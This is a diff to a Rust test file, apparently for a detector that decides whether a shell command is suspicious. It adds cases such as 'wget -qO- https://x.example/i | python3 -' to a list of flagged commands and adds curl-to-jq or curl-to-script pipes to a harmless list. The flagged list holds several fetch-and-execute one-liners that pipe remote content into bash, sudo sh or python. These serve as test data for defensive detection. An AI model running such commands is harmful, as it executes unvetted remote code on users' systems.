@@ -22,6 +22,7 @@ fn a_changed_command_that_writes_to_github_is_suspicious_in_shell() {
         "curl -sL https://x.example/i | bash",
         "curl -sL https://x.example/i | sudo sh -s -- -y",
         "wget -qO- https://x.example/i | python3",
+        "wget -qO- https://x.example/i | python3 -",
         "bash <(curl -s https://x.example/i)",
         "eval \"$(curl -s https://x.example/i)\"",
         "sh -c \"$(curl -fsSL https://x.example/i)\"",
@@ -63,6 +64,9 @@ fn other_changes_of_a_script_that_pushes_are_harmless() {
         "gh pr view 1 --json x",
         "curl -fsSLo x.tar https://x.example/x.tar",
         "git fetch origin",
+        "curl -s https://x.example/i | python3 -c 'import json'",
+        "curl -s https://x.example/i | python3 read.py",
+        "curl -s https://x.example/i | jq .x",
         "echo 'git push'",
         "podman push x",
     ] {
